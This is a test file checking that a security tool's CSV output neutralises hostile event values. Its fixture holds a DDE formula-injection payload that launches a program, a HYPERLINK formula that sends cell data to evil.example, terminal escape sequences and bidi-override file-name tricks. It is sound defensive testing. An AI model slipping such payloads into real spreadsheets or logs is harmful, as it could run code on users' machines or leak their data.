import { describe, expect, it } from 'vitest';
import type { Alert } from '../../src/alerts/alert.js';
import { loadPacks } from '../../src/alerts/pack.js';
import type { NormalizedEvent } from '../../src/events/event.js';
import { csvFormatter } from '../../src/outputs/csv.js';
import { DEFAULT_COLUMNS } from '../../src/outputs/default-columns.js';
import { outputColumns } from '../../src/outputs/formats.js';

const ESC = '\u001b';
const BEL = '\u0007';

/** Hostile values an attacker controls in an event (command line, host, user, parent). */
const HOSTILE: Array<[host: string, commandLine: string]> = [
  ['=cmd|\' /C calc\'!A0', '+SUM(1+1)'],
  ['-2+3', '@SUM(A1:A2)'],
  ['\tWS-TAB', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ['\rWS-CR', `${ESC}[2J${ESC}[H all clear ${ESC}]0;pwned${BEL}`],
  ['-42', 'C1 \u009b31m and \u0085 and bidi \u202eexe.txt\u2066 and \u2028'],
  ['WS-01', 'line1\r\nline2\nline3\ttab lone\rCR'],
];

function alerts(pack: Alert['pack']): Alert[] {
  const rule = pack.rules[0]!;
  return HOSTILE.map(([host, commandLine], i) => {
    const event: NormalizedEvent = {
      category: 'process_creation', host, user: '@admin', time: Date.UTC(2026, 10, 27, 10, 0, i),
      fields: { Image: 'cmd.exe', CommandLine: commandLine, ParentImage: 'node.exe', ParentCommandLine: '+x' },
      source: { file: 'e.json', format: 'qradar-json', record: i },
    };
    return { seq: i, pack, rule, label: 'PackageManagerSpawnedSuspiciousChild', event };
  });
}

describe('csv output of hostile values', () => {
  it('neutralises formula-leading cells and escapes terminal controls by default', async () => {
    const { packs } = await loadPacks(['seed']);
    const format = csvFormatter({ columns: outputColumns(packs) });
    const rows = alerts(packs[0]!).map((a) => format.format(a));
    const expected = [
      `2026-11-27 10:00:00,'=cmd|' /C calc'!A0,'@admin,,cmd.exe,'+SUM(1+1),node.exe,'+x,PackageManagerSpawnedSuspiciousChild\r\n`,
      `2026-11-27 10:00:01,'-2+3,'@admin,,cmd.exe,'@SUM(A1:A2),node.exe,'+x,PackageManagerSpawnedSuspiciousChild\r\n`,
      `2026-11-27 10:00:02,'\tWS-TAB,'@admin,,cmd.exe,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",node.exe,'+x,PackageManagerSpawnedSuspiciousChild\r\n`,
      `2026-11-27 10:00:03,'\\rWS-CR,'@admin,,cmd.exe,\\u001b[2J\\u001b[H all clear \\u001b]0;pwned\\u0007,node.exe,'+x,PackageManagerSpawnedSuspiciousChild\r\n`,
      `2026-11-27 10:00:04,-42,'@admin,,cmd.exe,C1 \\u009b31m and \\u0085 and bidi \\u202eexe.txt\\u2066 and \\u2028,node.exe,'+x,PackageManagerSpawnedSuspiciousChild\r\n`,
      `2026-11-27 10:00:05,WS-01,'@admin,,cmd.exe,"line1\r\nline2\nline3\ttab lone\\rCR",node.exe,'+x,PackageManagerSpawnedSuspiciousChild\r\n`,
    ];
    expect(rows).toEqual(expected);
    // Nothing left that a terminal would act on, besides the line breaks RFC 4180 quotes.
    expect(rows.join('')).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028]|\r(?!\n)/);
  });

  it('with rawCells gives every cell\'s exact bytes (QRadar\'s CSV), RFC 4180 quoted', async () => {
    const { packs } = await loadPacks(['seed']);
    const format = csvFormatter({ columns: outputColumns(packs), rawCells: true });
    const rows = alerts(packs[0]!).map((a) => format.format(a));
    expect(rows[0]).toBe(`2026-11-27 10:00:00,=cmd|' /C calc'!A0,@admin,,cmd.exe,+SUM(1+1),node.exe,+x,PackageManagerSpawnedSuspiciousChild\r\n`);
    expect(rows[2]).toBe(`2026-11-27 10:00:02,\tWS-TAB,@admin,,cmd.exe,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",node.exe,+x,PackageManagerSpawnedSuspiciousChild\r\n`);
    expect(rows[3]).toBe(`2026-11-27 10:00:03,"\rWS-CR",@admin,,cmd.exe,${ESC}[2J${ESC}[H all clear ${ESC}]0;pwned${BEL},node.exe,+x,PackageManagerSpawnedSuspiciousChild\r\n`);
    expect(rows[4]).toContain('\u009b31m and \u0085 and bidi \u202eexe.txt\u2066');
  });

  it('neutralises the default columns, the rule title and the header too', async () => {
    const { packs } = await loadPacks(['seed']);
    const [alert] = alerts(packs[0]!);
    const rule = Object.create(alert!.rule, { title: { value: '=1+1 \u001b[31mred', enumerable: true } }) as Alert['rule'];
    const format = csvFormatter({ columns: DEFAULT_COLUMNS });
    const row = format.format({ ...alert!, rule });
    expect(row).toContain(",'=1+1 \\u001b[31mred,");
    expect(row).toContain(",'=cmd|' /C calc'!A0,");
    expect(format.header).not.toMatch(/^[=+\-@]/);
  });
});
